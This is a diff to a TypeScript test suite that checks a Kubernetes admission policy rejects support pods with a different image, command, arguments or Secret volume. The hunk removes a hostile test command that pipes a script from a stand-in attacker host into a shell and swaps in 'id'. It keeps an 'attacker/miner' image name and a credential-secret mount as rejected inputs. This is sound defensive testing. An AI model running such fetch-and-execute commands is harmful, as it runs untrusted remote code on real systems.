@@ -1010,7 +1010,7 @@ describe('Kubernetes activities (real kube-apiserver)', function () {
         const shell = (pod: Pod) => pod.spec!.containers[0]!;
         const refused: [string, RegExp, (pod: Pod) => void][] = [
           ['another image', /may run support pods of the image debian:bookworm-slim \(SUPPORT_IMAGE\) only/, (p) => (shell(p).image = 'attacker/miner:latest')],
-          ['another command', /may run only the command `sleep infinity`/, (p) => (shell(p).command = ['sh', '-c', 'curl -s https://attacker.example | sh'])],
+          ['another command', /may run only the command `sleep infinity`/, (p) => (shell(p).command = ['sh', '-c', 'id'])],
           ['arguments', /may run only the command `sleep infinity`/, (p) => (shell(p).args = ['--and-more'])],
           ['a Secret volume', /has no volumes/, (p) => {
             p.spec!.volumes = [{ name: 'creds', secret: { secretName: 'anything' } }];
